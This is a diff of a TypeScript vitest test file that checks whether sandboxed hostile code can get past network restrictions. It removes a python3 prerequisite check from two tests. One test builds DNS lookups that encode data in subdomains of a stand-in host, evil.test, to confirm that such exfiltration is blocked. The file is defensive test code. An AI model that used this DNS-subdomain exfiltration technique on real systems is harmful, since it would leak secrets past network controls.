@@ -1,6 +1,5 @@
 /** How hostile code in a sandbox tries to reach more than it may. */
 import { describe, expect, it } from "vitest";
-import { needs } from "./setup.ts";
 import type { NetworkSetup } from "./setup.ts";
 
 /** Sends bytes to the proxy exactly as given, and prints the first line of the response. */
@@ -109,7 +108,6 @@ END`;
 
     it("that are forbidden carry nothing out", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
-      await needs(context, setup(), "/usr/bin/python3");
       const before = setup().network.asked.length;
       const names = `["secret%d.aGVsbG8gd29ybGQ.evil.test" % n for n in range(50)]`;
       expect((await setup().sh(lookUp(names))).stdout).toBe("0 50\n");
@@ -118,7 +116,6 @@ END`;
 
     it("without end take no memory, and those in use go on working", async (context) => {
       if (setup().mode === "proxy") context.skip("there is no name server inside");
-      await needs(context, setup(), "/usr/bin/python3");
       const { network, web, channel } = setup();
       network.rules.push(`*.flood.test:${String(web.port)}`);
       const names = `["n%d.flood.test" % n for n in range(1500)]`;
